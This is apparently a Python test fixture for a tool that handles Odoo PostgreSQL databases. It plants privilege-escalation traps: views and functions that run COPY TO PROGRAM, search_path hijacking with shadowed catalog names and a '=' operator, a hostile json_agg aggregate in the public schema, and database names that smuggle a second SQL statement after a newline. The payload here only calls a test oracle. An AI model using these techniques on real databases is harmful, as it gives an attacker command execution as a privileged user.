"""Things that lie in a customer's database and wait until somebody mighty comes by."""

from tests.attacks.oracle import TOOL
from tests.oracles import Pair

# Whoever evaluates it runs the payload if he may, and notices nothing if he may not.
SPRING = f"""
CREATE OR REPLACE FUNCTION {{schema}}.spring(name text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
    EXECUTE format('COPY (SELECT 1 WHERE false) TO PROGRAM %L', '{TOOL} trap-' || name);
    RETURN true;
EXCEPTION WHEN OTHERS THEN RETURN true;
END $f$;
"""
# What makes a database Odoo's in the eyes of who looks, and a function of its own in each relation.
VIEWS = f"""
CREATE SCHEMA evil;
{SPRING.format(schema="evil")}
CREATE TABLE real_modules AS SELECT 'base'::text AS name, 'installed'::text AS state;
CREATE VIEW ir_module_module AS SELECT * FROM real_modules WHERE evil.spring('modules');
CREATE TABLE real_documents (id int, name text, res_model text, res_id int, create_uid int,
    create_date timestamp, store_fname text, file_size int);
INSERT INTO real_documents VALUES (1, 'a', 'res.partner', 1, 1, now(),
    'ab/' || repeat('ab', 20), 3);
CREATE VIEW ir_attachment AS SELECT * FROM real_documents WHERE evil.spring('documents');
CREATE TABLE real_users AS SELECT 1 AS id, 1 AS partner_id;
CREATE VIEW res_users AS SELECT * FROM real_users WHERE evil.spring('users');
CREATE VIEW res_partner AS SELECT 1 AS id, 'x'::text AS name WHERE evil.spring('partners');
CREATE VIEW ir_config_parameter AS
    SELECT 'a'::text AS key, 'b'::text AS value WHERE evil.spring('parameters');
"""
# Names that are found before those of PostgreSQL's own.
NAMES = """
CREATE FUNCTION evil.to_regclass(text) RETURNS regclass LANGUAGE plpgsql AS $f$
BEGIN PERFORM evil.spring('to_regclass'); RETURN pg_catalog.to_regclass($1); END $f$;
CREATE VIEW evil.pg_extension AS
    SELECT * FROM pg_catalog.pg_extension WHERE evil.spring('relation');
CREATE VIEW evil.pg_database AS
    SELECT * FROM pg_catalog.pg_database WHERE evil.spring('relation');
CREATE FUNCTION evil.same(text, text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN PERFORM evil.spring('operator'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $f$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.same);
ALTER DATABASE {database} SET search_path = evil, pg_catalog, public;
"""
# A better fit for a record than PostgreSQL's own json_agg(anyelement).
AGGREGATE = f"""
{SPRING.format(schema="public")}
CREATE FUNCTION public.step(state json, one record) RETURNS json LANGUAGE plpgsql AS $f$
BEGIN
    PERFORM public.spring('aggregate');
    RETURN coalesce(state::jsonb, '[]'::jsonb) || jsonb_build_array(to_jsonb(one));
END $f$;
CREATE AGGREGATE public.json_agg(record) (SFUNC = public.step, STYPE = json);
"""
DROP_AGGREGATE = """
DROP AGGREGATE IF EXISTS public.json_agg(record);
DROP FUNCTION IF EXISTS public.step(json, record), public.spring(text);
"""
# What stands after the end of the line is SQL of its own; a name has room for 63 bytes.
NEWLINES = (
    f"n\nCOPY(SELECT 1)TO PROGRAM $${TOOL} trap-n$$;\n",
    f'q"\nCOPY(SELECT 1)TO PROGRAM $${TOOL} trap-q$$;',
)


def quoted(name: str) -> str:
    """A name in SQL, whatever is in it.

    >>> quoted('a"b')
    '"a""b"'
    """
    return '"' + name.replace('"', '""') + '"'


def as_odoo(pair: Pair, sql: str, database: str = "cliente1") -> None:
    """Say something as Odoo's own role at the origin."""
    argv = ("psql", "-h", "/var/run/postgresql", "-p", str(pair.origin.port), "-d", database,
            "-XAtq", "-v", "ON_ERROR_STOP=1")  # fmt: skip
    pair.origin.machine.run(*argv, user="odoo", stdin=sql)


def views(pair: Pair) -> None:
    """Make a database whose tables are views with a payload."""
    _database(pair, "trap_views")
    as_odoo(pair, VIEWS, "trap_views")


def names(pair: Pair) -> None:
    """Make a database in which other things bear PostgreSQL's own names."""
    _database(pair, "trap_names")
    as_odoo(pair, VIEWS + NAMES.format(database="trap_names"), "trap_names")


def aggregate(pair: Pair) -> None:
    """Put a better fit for a record into the schema public, where that is allowed.

    PostgreSQL up to 14 lets everybody create there, in the database postgres too.
    """
    _database(pair, "trap_views")
    as_odoo(pair, VIEWS + AGGREGATE, "trap_views")
    if pair.lab.generation.postgres < 15:
        as_odoo(pair, AGGREGATE, "postgres")


def newlines(pair: Pair) -> None:
    """Give databases names whose second line is a statement."""
    for name in NEWLINES:
        _database(pair, name)


def _database(pair: Pair, name: str) -> None:
    pair.at_origin("ALTER ROLE odoo NOSUPERUSER CREATEDB")
    as_odoo(pair, f"CREATE DATABASE {quoted(name)} TEMPLATE template0", "postgres")


def clear(pair: Pair) -> None:
    """Take all traps away."""
    for name in ("trap_views", "trap_names", *NEWLINES):
        pair.at_origin(f"DROP DATABASE IF EXISTS {quoted(name)}")
    pair.at_origin(DROP_AGGREGATE)
    pair.at_origin("ALTER ROLE odoo SUPERUSER")
